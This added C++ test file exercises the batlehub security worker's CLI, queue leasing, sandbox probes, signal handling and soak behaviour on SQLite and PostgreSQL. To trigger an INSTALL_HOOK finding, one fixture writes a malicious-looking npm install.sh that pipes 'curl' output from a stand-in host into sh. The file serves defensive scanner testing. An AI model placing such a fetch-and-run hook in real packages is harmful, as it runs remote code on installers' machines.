@@ -1,0 +1,522 @@
+// `batlehub worker`, `submit`, `wait` and `why` as an operator runs them: real processes,
+// real signals, the real bwrap runtime (postmortem's adapter over the stand-in
+// fake_postmortem in its room), real HTTP scrapes, and the queue read back from the real
+// database — SQLite under the state directory, and PostgreSQL on loopback
+// (scripts/pg-peer.sh, started by the ctest fixture).
+#include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
+
+#include <cstdlib>
+#include <random>
+#include <set>
+#include <sstream>
+
+#include "adapters/queue/postgres_queue.h"
+#include "adapters/queue/sqlite_queue.h"
+#include "archive_builder.h"
+#include "harness.h"
+#include "rooms.h"
+#include "worker_peer.h"
+
+namespace batlehub::testing {
+namespace {
+
+enum class Backend { kSqlite, kPostgres };
+
+std::string pg_dsn() {
+  const char* d = std::getenv("BATLEHUB_TEST_PG_DSN");
+  return d ? d : "";
+}
+
+// A registry name of this test's own: workers on the shared PostgreSQL lease only it.
+std::string unique_registry() {
+  std::random_device rd;
+  return "t" + std::to_string(::getpid()) + "x" + std::to_string(rd() % 1000000);
+}
+
+class WorkerCli : public ::testing::TestWithParam<Backend> {
+ protected:
+  void SetUp() override {
+    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
+    if (GetParam() == Backend::kPostgres) {
+      ASSERT_FALSE(pg_dsn().empty()) << "the pg fixture sets BATLEHUB_TEST_PG_DSN";
+    }
+    rooms_ = s_.root() / "rooms";
+    tmp_ = s_.root() / "tmp";
+    fs::create_directories(rooms_);
+    fs::create_directories(tmp_);
+    fs::permissions(tmp_, fs::perms::all | fs::perms::sticky_bit);
+    ASSERT_TRUE(build_room(rooms_, "postmortem",
+                           "--binary " + std::string(BATLEHUB_HELPERS_DIR) + "/fake_postmortem:/usr/bin/postmortem"));
+    registry_ = unique_registry();
+  }
+
+  // The worker's configuration; `extra_worker` lands in [worker].
+  fs::path config(const std::string& extra_worker = "", const std::string& extra_sandbox = "",
+                  const std::string& name = "config.toml") {
+    fs::path p = s_.root() / name;
+    std::string db = GetParam() == Backend::kPostgres ? "[database]\nurl = \"" + pg_dsn() + "\"\n" : "";
+    Scratch::write(p, "[server]\nhost = \"127.0.0.1\"\nport = 0\n" + db +
+                          "[worker]\n" +
+                          (extra_worker.find("job_timeout_secs") == std::string::npos ? "job_timeout_secs = 20\n" : "") +
+                          "state_dir = \"" + (s_.root() / "state").string() +
+                          "\"\nregistries = [\"" + registry_ + "\"]\n" + extra_worker +
+                          "\n[worker.sandbox]\nrooms_dir = \"" + rooms_.string() +
+                          "\"\nprobe_canaries = [\"127.0.0.1:9\"]\n" + extra_sandbox +
+                          "\n[scanners.postmortem]\ntype = \"postmortem\"\ncommand = \"postmortem\"\ntimeline = false\n");
+    return p;
+  }
+
+  std::vector<std::string> env() const { return {"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string()}; }
+
+  std::unique_ptr<Process> start_worker(const fs::path& cfg, const std::string& tag = "w") {
+    return std::make_unique<Process>(std::vector<std::string>{BATLEHUB_BIN, "worker", "--config", cfg.string()}, env(),
+                                     s_.root() / (tag + ".out"), s_.root() / (tag + ".err"));
+  }
+
+  Ran cli(const std::vector<std::string>& args) {
+    fs::path out = s_.root() / "cli.out";
+    std::vector<std::string> argv{BATLEHUB_BIN};
+    argv.insert(argv.end(), args.begin(), args.end());
+    std::string cmd;
+    for (const auto& a : argv) cmd += "'" + a + "' ";
+    cmd += "> " + out.string();
+    std::string err;
+    int rc = run_process({"/bin/sh", "-c", cmd}, s_.root(), env(), &err);
+    return Ran{rc, Scratch::read(out), err};
+  }
+
+  // An npm tarball; `sleep` > 0 makes the stand-in scanner take that long.
+  std::string package(const std::string& file, bool hook = false, int sleep = 0) {
+    std::vector<TestEntry> e{file_entry("package/package.json", "{\"name\":\"x\"}")};
+    if (hook) e.push_back(file_entry("package/install.sh", "curl -s https://x.example/s | sh\n"));
+    if (sleep > 0) e.push_back(file_entry("package/fake-postmortem-sleep", std::to_string(sleep)));
+    fs::path p = s_.root() / file;
+    Scratch::write(p, make_tgz(e));
+    return p.string();
+  }
+
+  static TestEntry file_entry(const std::string& n, const std::string& d) { return file(n, d); }
+
+  std::string coord(const std::string& name, const std::string& version) const {
+    return registry_ + ":" + name + "@" + version;
+  }
+
+  // The queue the worker uses, opened by the test itself.
+  std::unique_ptr<core::ScanQueue> queue() {
+    auto q = GetParam() == Backend::kPostgres ? adapters::open_postgres_queue(pg_dsn())
+                                              : adapters::open_sqlite_queue((s_.root() / "state/queue.sqlite3").string());
+    EXPECT_TRUE(q) << (q ? "" : q.error().message);
+    return q ? std::move(*q) : nullptr;
+  }
+
+  Scratch s_;
+  fs::path rooms_, tmp_;
+  std::string registry_;
+};
+
+std::string backend_name(const ::testing::TestParamInfo<Backend>& i) {
+  return i.param == Backend::kSqlite ? "sqlite" : "postgresql";
+}
+
+TEST_P(WorkerCli, a_submitted_package_is_scanned_by_the_worker_and_wait_and_why_show_its_verdict) {
+  auto w = start_worker(config());
+  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->out() << w->err();
+  ASSERT_TRUE(w->logged("runtime bwrap)"));
+
+  Ran sub = cli({"submit", "--config", config().string(), "--registry", registry_, package("left-pad-1.3.0.tgz"),
+                 package("evil-pad-2.0.0.tgz", true)});
+  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
+  EXPECT_NE(sub.out.find("queued " + coord("left-pad", "1.3.0") + " (job "), std::string::npos) << sub.out;
+  // Submitting again while it is open queues nothing new.
+  Ran again = cli({"submit", "--config", config().string(), "--registry", registry_, s_.root() / "left-pad-1.3.0.tgz"});
+  EXPECT_NE(again.out.find("already queued " + coord("left-pad", "1.3.0")), std::string::npos) << again.out;
+
+  Ran ok = cli({"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms",
+                coord("left-pad", "1.3.0")});
+  EXPECT_EQ(ok.status, 0) << ok.out << ok.err << w->err();
+  EXPECT_EQ(ok.out, coord("left-pad", "1.3.0") + " is allowed (). Run `batlehub why " + coord("left-pad", "1.3.0") +
+                        "` for details.\n");
+
+  Ran why = cli({"why", "--config", config().string(), coord("left-pad", "1.3.0")});
+  ASSERT_EQ(why.status, 0) << why.out << why.err;
+  const std::string at = why.out.substr(why.out.find("evaluated  ") + 11, 20);
+  EXPECT_EQ(why.out, coord("left-pad", "1.3.0") +
+                         "\n"
+                         "  state      allowed\n"
+                         "  reasons    —\n"
+                         "  policy     " + registry_ + "/default\n"
+                         "  evaluated  " + at + "\n"
+                         "  scanned    " + at + "\n"
+                         "  scanners   postmortem\n"
+                         "  findings   none\n"
+                         "Served.\n");
+
+  // The install hook: warned by default; `wait` says servable (warned is served).
+  Ran evil = cli({"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms",
+                  coord("evil-pad", "2.0.0")});
+  EXPECT_EQ(evil.status, 0) << evil.out;
+  EXPECT_NE(evil.out.find("is warned (INSTALL_HOOK)"), std::string::npos) << evil.out;
+  Ran evil_why = cli({"why", "--config", config().string(), "--json", coord("evil-pad", "2.0.0")});
+  ASSERT_EQ(evil_why.status, 0);
+  auto j = nlohmann::json::parse(evil_why.out);
+  EXPECT_EQ(j["state"], "warned");
+  EXPECT_EQ(j["findings"][0]["code"], "INSTALL_HOOK");
+  EXPECT_EQ(j["findings"][0]["scanner"], "postmortem");
+  EXPECT_EQ(j["scanners_done"], nlohmann::json::array({"postmortem"}));
+
+  // An unknown coordinate: waiting cannot help.
+  Ran none = cli({"wait", "--config", config().string(), "--interval", "100ms", coord("nothing", "1.0.0")});
+  EXPECT_EQ(none.status, 1) << none.out;
+  Ran none_why = cli({"why", "--config", config().string(), coord("nothing", "1.0.0")});
+  EXPECT_EQ(none_why.status, 1) << none_why.out;
+
+  // Recorded once each, from the database.
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto jobs = q->jobs(registry_, "left-pad", "1.3.0");
+  ASSERT_TRUE(jobs);
+  ASSERT_EQ(jobs->size(), 1u);
+  EXPECT_TRUE((*jobs)[0].completed_at.has_value());
+  EXPECT_EQ((*jobs)[0].attempts, 1);
+
+  // /metrics on a real scrape: ready, the runs, the verdicts.
+  std::uint16_t port = listening_port(*w);
+  ASSERT_NE(port, 0) << w->err();
+  std::string scrape = http_get(port, "/metrics");
+  EXPECT_EQ(series(scrape, "batlehub_sandbox_ready{runtime=\"bwrap\"}"), 1.0) << scrape;
+  EXPECT_EQ(series(scrape, "batlehub_sandbox_runs_total{outcome=\"ok\",runtime=\"bwrap\",scanner=\"postmortem\"}"), 2.0)
+      << scrape;
+  EXPECT_EQ(series(scrape, "batlehub_verdicts_total{registry=\"" + registry_ + "\",state=\"allowed\",trigger=\"first_seen\"}"),
+            1.0);
+  EXPECT_NE(http_get(port, "/livez").find("200 OK"), std::string::npos);
+  // Each run and each job left a span line.
+  EXPECT_TRUE(w->logged("INFO span: run job=" + (*jobs)[0].id + " scanner=postmortem attempt=1 runtime=bwrap outcome=ok"))
+      << w->err();
+  EXPECT_TRUE(w->logged("INFO span: job job=" + (*jobs)[0].id + " coordinate=" + coord("left-pad", "1.3.0")));
+
+  w->signal(SIGTERM);
+  EXPECT_EQ(w->wait_exit(30s), 0) << w->err();
+  EXPECT_TRUE(w->logged("stopped: every running scan finished")) << w->err();
+}
+
+TEST_P(WorkerCli, a_worker_killed_mid_scan_loses_its_lease_to_another_which_records_the_verdict_once) {
+  // A short lease, so that the test does not wait long for it to expire; the scan takes 3 s.
+  fs::path cfg = config("job_timeout_secs = 6\n");
+  auto a = start_worker(cfg, "a");
+  ASSERT_TRUE(a->wait_for_log("INFO security worker: ready (")) << a->err();
+  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("slow-1.0.0.tgz", false, 3)}).status, 0);
+
+  // Killed while its sandbox runs: the run dir it made is there.
+  const std::string left_prefix = "batlehub-run-" + std::to_string(a->pid()) + "-postmortem-";
+  auto left_behind = [&] {
+    std::vector<std::string> v;
+    for (const auto& e : fs::directory_iterator(tmp_)) {
+      if (e.path().filename().string().starts_with(left_prefix)) v.push_back(e.path().string());
+    }
+    return v;
+  };
+  ASSERT_TRUE(eventually([&] { return !left_behind().empty(); }, 30s)) << a->err();
+  a->signal(SIGKILL);
+  ASSERT_EQ(a->wait_exit(10s), 128 + SIGKILL);
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto held = q->open_job(registry_, "slow", "1.0.0");
+  ASSERT_TRUE(held && held->has_value());
+  EXPECT_EQ((*held)->leased_by.substr((*held)->leased_by.rfind('-') + 1), std::to_string(a->pid()));
+  EXPECT_FALSE(left_behind().empty());
+
+  // The second worker sweeps what the first left at its start, then takes the job once the
+  // lease has expired.
+  auto b = start_worker(cfg, "b");
+  ASSERT_TRUE(b->wait_for_log("INFO security worker: ready (")) << b->err();
+  EXPECT_TRUE(b->logged("sweep at start: removed")) << b->err();
+  EXPECT_TRUE(left_behind().empty());
+  Ran done = cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "200ms", coord("slow", "1.0.0")});
+  EXPECT_EQ(done.status, 0) << done.out << b->err();
+
+  auto jobs = q->jobs(registry_, "slow", "1.0.0");
+  ASSERT_TRUE(jobs);
+  ASSERT_EQ(jobs->size(), 1u);
+  EXPECT_EQ((*jobs)[0].attempts, 2);
+  EXPECT_EQ((*jobs)[0].leased_by.substr((*jobs)[0].leased_by.rfind('-') + 1), std::to_string(b->pid()));
+  EXPECT_TRUE((*jobs)[0].completed_at.has_value());
+  auto v = q->verdict(registry_, "slow", "1.0.0");
+  ASSERT_TRUE(v && v->has_value());
+  EXPECT_EQ((*v)->verdict.state, core::VerdictState::kAllowed);
+  b->signal(SIGTERM);
+  EXPECT_EQ(b->wait_exit(30s), 0);
+}
+
+TEST_P(WorkerCli, a_room_broken_while_the_worker_runs_stops_leasing_until_a_re_probe_passes) {
+  fs::path cfg = config("", "probe_interval_secs = 1\n");
+  auto w = start_worker(cfg);
+  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
+  std::uint16_t port = listening_port(*w);
+  ASSERT_NE(port, 0);
+  auto ready = [&] { return series(http_get(port, "/metrics"), "batlehub_sandbox_ready{runtime=\"bwrap\"}"); };
+  EXPECT_EQ(ready(), 1.0);
+
+  // A shell copied into the room: the next re-probe's no_shell fails.
+  fs::create_directories(rooms_ / "postmortem/bin");
+  fs::copy_file("/bin/dash", rooms_ / "postmortem/bin/sh");
+  ASSERT_TRUE(eventually([&] { return ready() == 0.0; }, 30s)) << w->err();
+  EXPECT_TRUE(w->wait_for_log("ERROR security worker: not ready: a re-probe failed: no_shell")) << w->err();
+  std::string scrape = http_get(port, "/metrics");
+  EXPECT_GE(series(scrape, "batlehub_sandbox_probe_failures_total{assertion=\"no_shell\",runtime=\"bwrap\"}").value_or(0), 1.0)
+      << scrape;
+
+  // Nothing new is leased while it stays broken.
+  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("held-1.0.0.tgz")}).status, 0);
+  std::this_thread::sleep_for(3s);
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto job = q->open_job(registry_, "held", "1.0.0");
+  ASSERT_TRUE(job && job->has_value());
+  EXPECT_EQ((*job)->attempts, 0);
+  EXPECT_TRUE((*job)->leased_by.empty());
+  // Said once, not at every re-probe.
+  std::string err = w->err();
+  std::size_t said = 0;
+  for (std::size_t at = 0; (at = err.find("not ready: a re-probe failed", at)) != std::string::npos; ++at) ++said;
+  EXPECT_EQ(said, 1u) << err;
+
+  // Repaired: the next re-probe passes and leasing resumes.
+  fs::remove_all(rooms_ / "postmortem/bin");
+  ASSERT_TRUE(eventually([&] { return ready() == 1.0; }, 30s)) << w->err();
+  EXPECT_TRUE(w->logged("ready again (")) << w->err();
+  Ran done = cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "200ms", coord("held", "1.0.0")});
+  EXPECT_EQ(done.status, 0) << done.out << w->err();
+  w->signal(SIGTERM);
+  EXPECT_EQ(w->wait_exit(30s), 0);
+}
+
+TEST_P(WorkerCli, sighup_keeps_the_old_configuration_when_the_new_one_is_invalid_and_applies_a_valid_one) {
+  fs::path cfg = config();
+  auto w = start_worker(cfg);
+  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
+  std::uint16_t port = listening_port(*w);
+  const auto slots = [&] { return series(http_get(port, "/metrics"), "batlehub_sandbox_pool_size"); };
+  const auto before = slots();
+  ASSERT_TRUE(before.has_value());
+
+  Scratch::write(cfg, slurp(cfg) + "\n[worker.sandbox.bogus]\nx = 1\n");
+  w->signal(SIGHUP);
+  ASSERT_TRUE(w->wait_for_log("ERROR config: reload refused, the configuration in use is kept: " + cfg.string()))
+      << w->err();
+  EXPECT_EQ(slots(), before);
+  EXPECT_FALSE(w->exited());
+
+  config("pool_slots = 1\n");  // rewrites cfg, valid
+  w->signal(SIGHUP);
+  ASSERT_TRUE(w->wait_for_log("INFO config: reloaded " + cfg.string())) << w->err();
+  EXPECT_TRUE(eventually([&] { return slots() == 1.0; }, 10s));
+  // It is still ready and still scans.
+  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("after-1.0.0.tgz")}).status, 0);
+  EXPECT_EQ(cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "200ms", coord("after", "1.0.0")}).status,
+            0);
+  w->signal(SIGTERM);
+  EXPECT_EQ(w->wait_exit(30s), 0);
+}
+
+TEST_P(WorkerCli, a_worker_whose_walls_fail_at_start_leases_nothing_and_says_why_in_two_lines) {
+  fs::create_directories(rooms_ / "postmortem/bin");
+  fs::copy_file("/bin/dash", rooms_ / "postmortem/bin/sh");
+  fs::path cfg = config();
+  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("early-1.0.0.tgz")}).status, 0);
+  auto w = start_worker(cfg);
+  EXPECT_EQ(w->wait_exit(60s), 1) << w->err();
+  auto out = lines(w->out());
+  ASSERT_GE(out.size(), 2u) << w->out();
+  EXPECT_TRUE(out[0].starts_with("no_shell: ")) << out[0];
+  EXPECT_NE(out[1].find("bwrap"), std::string::npos) << out[1];
+  EXPECT_FALSE(w->logged("ready (")) << w->err();
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto job = q->open_job(registry_, "early", "1.0.0");
+  ASSERT_TRUE(job && job->has_value());
+  EXPECT_EQ((*job)->attempts, 0);
+}
+
+TEST_P(WorkerCli, sigterm_lets_a_running_scan_finish_within_the_grace_period) {
+  fs::path cfg = config("shutdown_grace_secs = 30\n");
+  auto w = start_worker(cfg);
+  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
+  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("grace-1.0.0.tgz", false, 2)}).status, 0);
+  ASSERT_TRUE(w->wait_for_log("scanning with postmortem")) << w->err();
+  w->signal(SIGTERM);
+  EXPECT_EQ(w->wait_exit(60s), 0) << w->err();
+  EXPECT_TRUE(w->logged("stopping: nothing new is leased; 1 scan(s) running")) << w->err();
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto v = q->verdict(registry_, "grace", "1.0.0");
+  ASSERT_TRUE(v && v->has_value()) << w->err();
+}
+
+TEST_P(WorkerCli, sigterm_past_the_grace_period_releases_the_scan_for_another_worker) {
+  fs::path cfg = config("shutdown_grace_secs = 1\n");
+  auto w = start_worker(cfg);
+  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
+  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("long-1.0.0.tgz", false, 20)}).status, 0);
+  ASSERT_TRUE(w->wait_for_log("scanning with postmortem")) << w->err();
+  w->signal(SIGTERM);
+  EXPECT_EQ(w->wait_exit(30s), 0) << w->err();
+  EXPECT_TRUE(w->logged("released for another worker")) << w->err();
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto job = q->open_job(registry_, "long", "1.0.0");
+  ASSERT_TRUE(job && job->has_value());
+  EXPECT_TRUE((*job)->leased_by.empty() || (*job)->leased_until <= *q->now());
+  EXPECT_NE((*job)->last_error.find("released: the worker stopped"), std::string::npos) << (*job)->last_error;
+}
+
+// Two workers on one queue, many jobs: each job leased once, by one of them, and every
+// verdict recorded once — checked from the database and from the workers' own logs.
+TEST_P(WorkerCli, two_workers_never_scan_the_same_job) {
+  constexpr int kJobs = 24;
+  fs::path cfg = config("max_concurrent = 3\n");
+  std::vector<std::string> args{"submit", "--config", cfg.string(), "--registry", registry_};
+  for (int i = 0; i < kJobs; ++i) args.push_back(package("many-1.0." + std::to_string(i) + ".tgz"));
+  ASSERT_EQ(cli(args).status, 0);
+  auto a = start_worker(cfg, "a");
+  auto b = start_worker(cfg, "b");
+  auto q = queue();
+  ASSERT_TRUE(q);
+  auto all_done = [&] {
+    for (int i = 0; i < kJobs; ++i) {
+      auto v = q->verdict(registry_, "many", "1.0." + std::to_string(i));
+      if (!v || !v->has_value()) return false;
+    }
+    return true;
+  };
+  ASSERT_TRUE(eventually(all_done, 180s)) << a->err() << b->err();
+  std::set<std::string> by_a, by_b;
+  for (int i = 0; i < kJobs; ++i) {
+    auto jobs = q->jobs(registry_, "many", "1.0." + std::to_string(i));
+    ASSERT_TRUE(jobs);
+    ASSERT_EQ(jobs->size(), 1u);
+    const core::ScanJob& j = (*jobs)[0];
+    EXPECT_EQ(j.attempts, 1) << j.id << " was leased more than once";
+    EXPECT_TRUE(j.completed_at.has_value());
+    const std::string pid = j.leased_by.substr(j.leased_by.rfind('-') + 1);
+    (pid == std::to_string(a->pid()) ? by_a : by_b).insert(j.id);
+    // Scanned by its holder only: the other worker's log never names it.
+    const std::string scanning = "job " + j.id + ": ";
+    EXPECT_NE(a->logged(scanning + coord("many", "1.0." + std::to_string(i))),
+              b->logged(scanning + coord("many", "1.0." + std::to_string(i))))
+        << j.id;
+  }
+  EXPECT_EQ(by_a.size() + by_b.size(), static_cast<std::size_t>(kJobs));
+  a->signal(SIGTERM);
+  b->signal(SIGTERM);
+  EXPECT_EQ(a->wait_exit(30s), 0);
+  EXPECT_EQ(b->wait_exit(30s), 0);
+}
+
+INSTANTIATE_TEST_SUITE_P(Backends, WorkerCli, ::testing::Values(Backend::kSqlite, Backend::kPostgres), backend_name);
+
+// The soak: 1,000 small jobs through one worker on SQLite under bwrap. Measured twice with
+// the worker idle — after the first 100 and after all 1,000 — so that what a scan holds
+// while it runs is not counted: open descriptors, resident memory, run directories left
+// in TMPDIR, and processes still parented to the worker.
+class WorkerSoak : public WorkerCli {
+ protected:
+  struct Sample {
+    std::size_t fds = 0;
+    long rss_kb = 0;
+    std::size_t children = 0;
+  };
+  // The fewest descriptors seen over half a second: the listener closes the test's own
+  // scrape connection a moment after answering it, and that one is not the worker's to keep.
+  static std::size_t steady_fds(pid_t pid) {
+    std::size_t fewest = SIZE_MAX;
+    for (int i = 0; i < 5; ++i) {
+      std::size_t n = 0;
+      for ([[maybe_unused]] const auto& e : fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd")) ++n;
+      fewest = std::min(fewest, n);
+      std::this_thread::sleep_for(100ms);
+    }
+    return fewest;
+  }
+  static Sample sample(pid_t pid) {
+    Sample s;
+    s.fds = steady_fds(pid);
+    std::istringstream status(slurp("/proc/" + std::to_string(pid) + "/status"));
+    for (std::string line; std::getline(status, line);) {
+      if (line.starts_with("VmRSS:")) s.rss_kb = std::stol(line.substr(6));
+    }
+    for (const auto& e : fs::directory_iterator("/proc")) {
+      const std::string name = e.path().filename().string();
+      if (name.find_first_not_of("0123456789") != std::string::npos) continue;
+      const std::string stat = slurp(e.path() / "stat");
+      auto close = stat.rfind(')');
+      if (close == std::string::npos) continue;
+      std::istringstream rest(stat.substr(close + 2));
+      std::string state;
+      pid_t ppid = 0;
+      rest >> state >> ppid;
+      if (ppid == pid) ++s.children;
+    }
+    return s;
+  }
+};
+
+TEST_P(WorkerSoak, a_thousand_jobs_leave_no_descriptor_directory_or_process_behind_and_memory_flat) {
+  constexpr int kFirst = 100, kAll = 1000;
+  fs::path cfg = config("max_concurrent = 8\n");
+  // One archive, a thousand coordinates: the artifact is stored once, each job scans it.
+  const std::string archive = package("soak-1.0.0.tgz");
+  auto submit = [&](int from, int to) {
+    for (int i = from; i < to; ++i) {
+      Ran r = cli({"submit", "--config", cfg.string(), "--registry", registry_, "--name", "soak", "--version",
+                   "1.0." + std::to_string(i), archive});
+      if (r.status != 0) return false;
+    }
+    return true;
+  };
+  auto w = start_worker(cfg);
+  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
+  const std::uint16_t port = listening_port(*w);
+  const std::string verdicts =
+      "batlehub_verdicts_total{registry=\"" + registry_ + "\",state=\"allowed\",trigger=\"first_seen\"}";
+  auto recorded = [&] { return series(http_get(port, "/metrics"), verdicts).value_or(0); };
+  auto idle = [&] {
+    return series(http_get(port, "/metrics"), "batlehub_sandbox_permits_in_use") == 0.0;
+  };
+
+  ASSERT_TRUE(submit(0, kFirst));
+  ASSERT_TRUE(eventually([&] { return recorded() >= kFirst && idle(); }, 300s)) << recorded();
+  const Sample at_100 = sample(w->pid());
+  ASSERT_TRUE(submit(kFirst, kAll));
+  ASSERT_TRUE(eventually([&] { return recorded() >= kAll && idle(); }, 900s)) << recorded();
+  const Sample at_1000 = sample(w->pid());
+
+  std::cout << "soak: job 100: " << at_100.fds << " fds, RSS " << at_100.rss_kb << " kB; job 1000: " << at_1000.fds
+            << " fds, RSS " << at_1000.rss_kb << " kB\n";
+  RecordProperty("rss_kb_at_100", static_cast<int>(at_100.rss_kb));
+  RecordProperty("rss_kb_at_1000", static_cast<int>(at_1000.rss_kb));
+  EXPECT_EQ(at_1000.fds, at_100.fds);
+  EXPECT_EQ(at_1000.children, 0u);
+  EXPECT_EQ(at_100.children, 0u);
+  // Flat: 900 more jobs may not cost more than 8 MiB (a leak of 10 KiB a job would).
+  EXPECT_LT(at_1000.rss_kb - at_100.rss_kb, 8 * 1024) << at_100.rss_kb << " kB → " << at_1000.rss_kb << " kB";
+  std::vector<std::string> left;
+  for (const auto& e : fs::directory_iterator(tmp_)) left.push_back(e.path().filename().string());
+  EXPECT_TRUE(left.empty()) << left.size() << " entries left in TMPDIR, e.g. " << left.front();
+  // Every job once.
+  auto q = queue();
+  ASSERT_TRUE(q);
+  for (int i : {0, 99, 500, 999}) {
+    auto jobs = q->jobs(registry_, "soak", "1.0." + std::to_string(i));
+    ASSERT_TRUE(jobs);
+    ASSERT_EQ(jobs->size(), 1u);
+    EXPECT_EQ((*jobs)[0].attempts, 1);
+  }
+  w->signal(SIGTERM);
+  EXPECT_EQ(w->wait_exit(60s), 0);
+}
+
+INSTANTIATE_TEST_SUITE_P(Sqlite, WorkerSoak, ::testing::Values(Backend::kSqlite), backend_name);
+
+}  // namespace
+}  // namespace batlehub::testing
